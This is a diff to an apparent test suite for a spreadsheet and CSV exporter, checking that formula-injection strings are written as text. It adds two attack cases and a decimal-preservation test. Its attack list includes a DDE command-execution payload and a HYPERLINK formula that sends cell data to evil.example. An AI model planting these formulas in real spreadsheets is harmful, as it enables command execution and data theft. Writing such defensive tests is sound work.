@@ -6,6 +6,8 @@ const ATTACKS = [
   '=1+1',
   '+1+1',
   '-1+1',
+  '-1.5e9',
+  '-1\n=1+1',
   '@SUM(1+1)',
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
@@ -56,8 +58,8 @@ function parseCells(csv: Buffer): string[][] {
   return rows;
 }
 
-test('covers 15 different attacks', () => {
-  expect(new Set(ATTACKS).size).toBe(15);
+test('covers 17 different attacks', () => {
+  expect(new Set(ATTACKS).size).toBe(17);
 });
 
 describe.each(ATTACKS)('writes %j as text', (attack) => {
@@ -88,6 +90,11 @@ test('writes numbers as numbers, also negative ones', async () => {
     ['Who', 'Minutes'],
     ['Ada', -2.25],
   ]);
+});
+
+test.each(['-4.00', '-12', '0.50'])('leaves the exact decimal %s as it is', async (text) => {
+  expect(parseCells(csvOf(sheet([[text, 5]])))[1]).toEqual([text, '5']);
+  expect((await readSheet(await xlsxOf(sheet([[text, 5]])))).rows[1]).toEqual([text, 5]);
 });
 
 test('leaves out characters that XML cannot contain', async () => {
